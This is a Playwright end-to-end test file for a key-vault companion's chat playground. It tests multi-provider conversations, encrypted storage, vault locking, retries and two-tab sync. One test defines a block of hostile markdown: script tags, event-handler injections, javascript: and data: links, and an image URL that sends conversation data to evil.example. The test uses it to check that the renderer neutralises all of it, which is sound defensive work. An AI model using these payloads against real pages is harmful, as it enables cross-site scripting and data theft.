// The playground as a person uses it: two providers in one conversation, what is kept and how, what a
// hostile model writes, and two tabs in one conversation.

import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test as base, expect, type Page } from "@playwright/test";
import { demoKey, findIn, randomText } from "../support/canary.mjs";
import { startUpstream } from "../support/upstream.mjs";
import { Stage } from "./support/stage.js";
import { dumpStorage, plant } from "./support/storage.js";
import { SecureStore } from "./support/store.js";

interface World {
  stage: Stage;
  upstream: Awaited<ReturnType<typeof startUpstream>>;
}

/** A companion with the demo provider, and with another that says what a test wants. */
const test = base.extend<{ world: World }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the parameter's pattern
  world: async ({}, use) => {
    const folder = mkdtempSync(join(tmpdir(), "keyseal-playground-"));
    const upstream = await startUpstream();
    const config = join(folder, "keyseal.toml");
    const openai = `[providers.openai]\norigin = "${upstream.url}"\nallow_private = true\n`;
    writeFileSync(config, openai, { mode: 0o600 });
    const stage = await Stage.set(["--config", config]);
    await use({ stage, upstream });
    await stage.strike();
    await upstream.close();
    rmSync(folder, { recursive: true, force: true });
  },
});

const openAiKey = () => `sk-proj-${randomText()}${randomText()}`;

test("a conversation goes over two providers, is kept sealed, and goes out of sight with the lock", async ({
  world: { stage, upstream },
}) => {
  test.setTimeout(180_000);
  const control = randomText();
  const mine = { demo: demoKey(), openai: openAiKey() };
  const store = new SecureStore(await stage.openPage());
  await store.ready();
  const { page } = store;
  await store.add(mine.demo.key, "browser", "demo");
  await store.add(mine.openai, "synced", "here");
  await store.goTo("Playground");

  await test.step("the first message; the line under the answer says what it took", async () => {
    await expect(page.getByRole("heading", { name: "What shall we talk about?" })).toBeVisible();
    // The key that was added last changes nothing, and least of all to one that costs.
    await expect(page.getByRole("button", { name: "Model: demo, Demo" })).toBeVisible();
    await choose(page, "gpt-5-mini");
    const answer = await say(page, `First, ${control}`);
    await expect(answer).toContainText("Good morning from upstream");
    await expect(answer).toContainText(`…${mine.openai.slice(-4)}`);
    for (const fact of ["gpt-5-mini", "here", "forward", "7 tokens", "cost not told"]) {
      await expect(answer).toContainText(fact);
    }
    // Each word under it can be asked about, without a mouse too.
    await answer.getByRole("button", { name: "forward" }).press("Enter");
    await expect(answer.getByRole("status")).toContainText("could read what was said");
  });

  await test.step("another provider, and `auto`, in the same conversation: all of it goes along", async () => {
    await choose(page, "demo", "Demo");
    const redrawn = await watchFirst(page);
    const second = await say(page, "Second");
    await expect(second).toContainText("You said: “Second”");
    await expect(second).toContainText("free");
    // A key of this browser alone goes to the demo, which is the companion itself, sealed into the request.
    await second.getByRole("button", { name: "envelope" }).click();
    await expect(second.getByRole("status")).toContainText("sealed the key into this one request");
    // Only the answer that came was drawn, however often.
    expect(await redrawn()).toBe(0);
    await choose(page, "Auto");
    const picked = await say(page, "Third");
    await expect(picked).toContainText("openai/gpt-4.1-mini");
    await choose(page, "gpt-5-mini");
    await say(page, "Fourth");
    const { messages } = upstream.calls.at(-1)?.body ?? {};
    expect(messages.map(({ role }: { role: string }) => role)).toEqual([
      "user",
      "assistant",
      "user",
      "assistant",
      "user",
      "assistant",
      "user",
    ]);
    expect(messages.map(({ content }: { content: string }) => content)).toEqual([
      `First, ${control}`,
      "Good morning from upstream",
      "Second",
      expect.stringContaining("Second"),
      "Third",
      "Good morning from upstream",
      "Fourth",
    ]);
  });

  await test.step("a refusal in plain words, and again; an earlier message changed", async () => {
    upstream.fail(429);
    const refused = await say(page, "Fifth");
    await expect(refused).toContainText("OpenAI asks to wait");
    await refused.getByRole("button", { name: "Try again" }).click();
    await expect(refused).toContainText("Good morning from upstream");
    await expect(refused.getByRole("button", { name: "in place of" })).toHaveCount(0);
    await page.getByRole("button", { name: "Edit" }).nth(1).click();
    await expect(page.getByText("What came after it is replaced")).toBeVisible();
    await page.getByRole("textbox", { name: "Message" }).fill("Second, changed");
    await page.getByRole("textbox", { name: "Message" }).press("Enter");
    await expect(page.getByRole("article", { name: "Answer" })).toHaveCount(2);
    await idle(page);
    expect(upstream.calls.at(-1)?.body.messages.at(-1).content).toBe("Second, changed");
  });

  await test.step("an answer is stopped with Escape, and what came of it stays", async () => {
    await page.getByRole("button", { name: "New chat" }).click();
    await choose(page, "demo-slow");
    const message = page.getByRole("textbox", { name: "Message" });
    await message.fill("Slowly");
    await message.press("Enter");
    const answer = page.getByRole("article", { name: "Answer" });
    await expect(answer).toContainText("Hello!");
    await test.step("who reads further up is left there, while the answer goes on", async () => {
      await page.setViewportSize({ width: 900, height: 420 });
      await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(0);
      await page.evaluate(() => window.scrollTo(0, 0));
      await expect(page.getByRole("button", { name: "To the end" })).toBeVisible();
      const length = ((await answer.textContent()) ?? "").length;
      await expect
        .poll(async () => ((await answer.textContent()) ?? "").length)
        .toBeGreaterThan(length + 10);
      expect(await page.evaluate(() => window.scrollY)).toBe(0);
      await page.setViewportSize({ width: 1280, height: 720 });
    });
    await message.press("Escape");
    await expect(answer).toContainText("stopped by you");
    await expect(answer).not.toContainText("put it in");
  });

  await test.step("reloaded in mid-answer: it is open again, with what had come, and says so", async () => {
    await page.getByRole("textbox", { name: "Message" }).fill("Slower");
    await page.getByRole("textbox", { name: "Message" }).press("Enter");
    const answer = page.getByRole("article", { name: "Answer" }).nth(1);
    await expect(answer).toContainText("no model at all");
    await expect
      .poll(async () => ((await answer.textContent()) ?? "").length, { timeout: 30_000 })
      .toBeGreaterThan(100);
    await page.setViewportSize({ width: 900, height: 420 });
    await page.evaluate(() => window.scrollTo(0, 0));
    await page.reload();
    await expect(answer).toContainText("Interrupted");
    await expect(answer.getByText("Interrupted")).toBeInViewport();
    await page.setViewportSize({ width: 1280, height: 720 });
    await expect(answer).toContainText("Hello!");
    await expect(page.getByRole("button", { name: "Model: demo-slow, Demo" })).toBeVisible();
    await expect(page.getByRole("heading", { name: "What shall we talk about?" })).toHaveCount(0);
  });

  const list = page.getByRole("navigation", { name: "Conversations" });
  await test.step("kept over a reload; renamed, found and deleted", async () => {
    await expect(list.getByRole("listitem")).toHaveCount(2);
    await page.reload();
    await expect(list.getByRole("listitem")).toHaveCount(2);
    await list
      .getByRole("button", { name: /^First, / })
      .first()
      .click();
    await expect(page.getByRole("article", { name: "Answer" })).toHaveCount(2);
    await expect(page.getByRole("log")).toContainText("Second, changed");
    await menu(page, "Slowly", "Rename…");
    await page.getByRole("textbox", { name: "Name" }).fill("A slow one");
    await page.getByRole("button", { name: "Save" }).click();
    await expect(list.getByRole("button", { name: /^A slow one/ })).toBeVisible();
    await menu(page, "A slow one", "Delete…");
    await page.getByRole("button", { name: "Delete", exact: true }).click();
    await expect(list.getByRole("listitem")).toHaveCount(1);
  });

  await test.step("neither what was said nor a key stands in the browser's storage", async () => {
    const planted = randomText();
    await plant(page, planted);
    for (const [place, held] of Object.entries(await dumpStorage(page))) {
      for (const secret of [control, mine.demo.secret, mine.openai]) {
        expect(findIn(held, secret), place).toEqual([]);
      }
      expect(findIn(held, planted), `the control in ${place}`).not.toEqual([]);
    }
    expect((await dumpStorage(page)).indexedDb).toContain("keyseal-playground");
  });

  await test.step("locked, the list says so and nothing of it is in the page; unlocked, it is back", async () => {
    expect(await store.everything()).toContain(control);
    await page.getByRole("button", { name: "Lock the vault" }).click();
    await expect(list).toContainText("The vault is locked, and your conversations with it.");
    expect(await store.everything()).not.toContain(control);
    // A synced key goes on working; what is said is kept once the vault is open again.
    await choose(page, "gpt-5-mini");
    await expect(await say(page, "While locked")).toContainText("Good morning from upstream");
    await expect(page.getByText("Not kept while the vault is locked.")).toBeVisible();
    await page.getByRole("button", { name: "Unlock on this device" }).click();
    await expect(list.getByRole("listitem")).toHaveCount(2);
    await expect(list).toContainText("While locked");
    await expect(list).toContainText("First, ");
  });
});

/** What a model may write to get something done in the page of whoever reads it. */
const HOSTILE = `# Look

<script>window.pwned = 1</script>
<img src="https://evil.example/1.png" onerror="window.pwned = 2">

![an innocent picture](https://evil.example/2.png?what=was-said "title")
![inline](data:image/svg+xml,<svg onload=window.pwned=3>)
[click me](javascript:window.pwned=4) [and me](data:text/html,<script>window.pwned=5</script>)
[and me](&#106;avascript:window.pwned=6) [here](/api/v1/me) <javascript:window.pwned=7>
<a href="javascript:window.pwned=8" onmouseover="window.pwned=9">hover</a>
<iframe src="https://evil.example/3"></iframe><style>* { display: none }</style>
<form action="https://evil.example/4"><button>Send</button></form>

| a <b onclick=alert(1)> | b |
|---|---|
| <svg onload=window.pwned=10> | [x](vbscript:x) |

- [ ] <input autofocus onfocus=window.pwned=11>

\`\`\`html"><img src=x onerror=window.pwned=12>
</code></pre><script>window.pwned = 13</script>
\`\`\`

[a link](https://example.com/page?q=1&amp;r=2) ${">".repeat(3000)} ${"[".repeat(3000)} **bold** end
`;

test("what a hostile model writes is text, and its images and scripts do nothing", async ({
  world: { stage, upstream },
}) => {
  const store = new SecureStore(await stage.openPage());
  await store.ready();
  const { page } = store;
  const first = openAiKey();
  const added = await store.submit(first, "synced");
  await page.getByRole("link", { name: "Chat with it" }).click();
  await expect(added).toBeHidden();
  await expect(page.getByRole("button", { name: /^Model: .*, OpenAI$/ })).toBeVisible();
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(stage.companion.url)) elsewhere.push(request.url());
  });
  const before = stage.console;

  upstream.say(HOSTILE);
  const answer = await say(page, "Go ahead");
  await expect(answer).toContainText("bold end");
  const inside = await answer.evaluate((article) => {
    const all = [...article.querySelectorAll("*")].flatMap((node) => [
      node,
      ...(node.shadowRoot?.querySelectorAll("*") ?? []),
    ]);
    return {
      names: [...new Set(all.map(({ localName }) => localName))],
      handlers: all.flatMap((node) =>
        [...node.attributes].filter(({ name }) => name.startsWith("on")).map(({ name }) => name),
      ),
      links: all.flatMap((node) => {
        const { href, rel, target } = node as HTMLAnchorElement;
        return node.localName === "a" ? [{ href, rel, target }] : [];
      }),
    };
  });
  const harmful = ["script", "img", "iframe", "style", "form", "input", "object", "svg", "base"];
  // The icons of our own buttons are no part of what was written.
  expect(inside.names.filter((name) => harmful.includes(name))).toEqual([]);
  expect(inside.handlers).toEqual([]);
  const rel = "noopener noreferrer nofollow";
  expect(inside.links.map(({ href }) => href)).toEqual([
    "https://evil.example/2.png?what=was-said",
    "https://example.com/page?q=1&r=2",
  ]);
  for (const link of inside.links) expect(link).toMatchObject({ rel, target: "_blank" });
  await expect(answer).toContainText("Image, not loaded: an innocent picture");
  // What it wrote can be read, as it wrote it.
  await expect(answer).toContainText("<script>window.pwned = 1</script>");
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
  expect(elsewhere).toEqual([]);
  // Not even tried: what the Content-Security-Policy stops is written to the console.
  expect(stage.console.slice(before.length)).toBe("");

  await test.step("code is copied as it is, and a table reads as one", async () => {
    upstream.say(
      'Here:\n\n```js\nconst a = 1 < 2 && "&amp;";\n```\n\n| Name | Cost |\n|:--|--:|\n| A | 1 |\n',
    );
    const second = await say(page, "Some code");
    await second.getByRole("button", { name: "Copy code" }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
      'const a = 1 < 2 && "&amp;";',
    );
    await expect(second.getByRole("columnheader", { name: "Cost" })).toBeVisible();
    await expect(second.getByRole("cell", { name: "1" })).toBeVisible();
  });

  await test.step("another key takes over: the line says in place of which; none is left to ask", async () => {
    const spare = openAiKey();
    await store.goTo("Keys");
    await store.add(spare, "synced", "spare");
    await store.goTo("Playground");
    upstream.fail(429);
    const third = await say(page, "Who answers?");
    await expect(third).toContainText("Good morning from upstream");
    await expect(third).toContainText(`…${spare.slice(-4)} spare`);
    await third.getByRole("button", { name: `in place of sk-proj-…${first.slice(-4)}` }).click();
    await expect(third.getByRole("status")).toContainText("That key comes first");
    // What the companion could not do is not blamed on the provider.
    await upstream.close();
    const fourth = await say(page, "Anybody?");
    await expect(fourth).toContainText("upstream_unreachable");
    await expect(fourth).not.toContainText("OpenAI had a failure");
  });
});

test("two tabs in one conversation: what one says the other shows, and of what both say nothing is lost", async ({
  world: { stage },
}) => {
  const store = new SecureStore(await stage.openPage());
  await store.ready();
  const { page } = store;
  await store.add(demoKey().key, "synced");
  await store.goTo("Playground");
  await say(page, "Together");

  // A tab that this one opens has its sign-in.
  const opened = page.context().waitForEvent("page");
  await page.evaluate(() => void window.open(location.href));
  const other = await opened;
  const list = (tab: Page) => tab.getByRole("navigation", { name: "Conversations" });
  await list(other)
    .getByRole("button", { name: /^Together/ })
    .first()
    .click();
  await expect(other.getByRole("log")).toContainText("You said: “Together”");

  await test.step("what one says, the other shows", async () => {
    await say(other, "From the other");
    await expect(page.getByRole("log")).toContainText("You said: “From the other”");
  });

  await test.step("both at once: nothing that was said is lost", async () => {
    await choose(page, "demo-slow");
    await choose(other, "demo-slow");
    const [one, two] = [page, other].map((tab) => tab.getByRole("textbox", { name: "Message" }));
    await one?.fill("Here at once");
    await two?.fill("There at once");
    await Promise.all([one?.press("Enter"), two?.press("Enter")]);
    await Promise.all([idle(page), idle(other)]);
    await expect(list(page).getByRole("button", { name: /^Together \(2\)/ })).toBeVisible();
    const said: string[] = [];
    for (const title of [/^Together (?!\(2)/, /^Together \(2\)/]) {
      const item = list(page).getByRole("button", { name: title }).first();
      await item.click();
      await expect(item).toHaveAttribute("aria-current", "true");
      await expect(page.getByRole("log")).toContainText("at once");
      said.push((await page.getByRole("log").textContent()) ?? "");
    }
    expect(said.join()).toContain("Here at once");
    expect(said.join()).toContain("There at once");
  });
});

/** Chooses a model by typing it, and where it is not the only one of that name, its provider's. */
async function choose(page: Page, model: string, provider = ""): Promise<void> {
  await page.getByRole("button", { name: /^Model: / }).click();
  const dialog = page.getByRole("dialog", { name: "Model" });
  await dialog.getByRole("combobox").fill(model);
  const options = provider ? dialog.getByRole("group", { name: provider }) : dialog;
  await options.getByRole("option", { name: model, exact: true }).first().click();
  await expect(dialog).toBeHidden();
}

/** Sends a message; its answer, once it has ended. */
async function say(page: Page, message: string) {
  const answers = page.getByRole("article", { name: "Answer" });
  const before = await answers.count();
  await page.getByRole("textbox", { name: "Message" }).fill(message);
  await page.getByRole("button", { name: "Send" }).click();
  const answer = answers.nth(before);
  await expect(answer).toHaveAttribute("aria-busy", "false", { timeout: 30_000 });
  return answer;
}

/** Counts what changes in the text of the first answer from now on. */
async function watchFirst(page: Page): Promise<() => Promise<number>> {
  const prose = page.getByRole("article", { name: "Answer" }).first().locator(".prose");
  const counts = await prose.evaluateHandle((node) => {
    const counts = { changes: 0 };
    new MutationObserver((changes) => {
      counts.changes += changes.length;
    }).observe(node, { subtree: true, childList: true, characterData: true, attributes: true });
    return counts;
  });
  return () => counts.evaluate(({ changes }) => changes);
}

const idle = (page: Page) =>
  expect(page.getByRole("button", { name: "Stop" })).toHaveCount(0, { timeout: 60_000 });

async function menu(page: Page, title: string, item: string): Promise<void> {
  await page.getByRole("button", { name: `More for ${title}` }).click();
  await page.getByRole("menuitem", { name: item }).click();
}
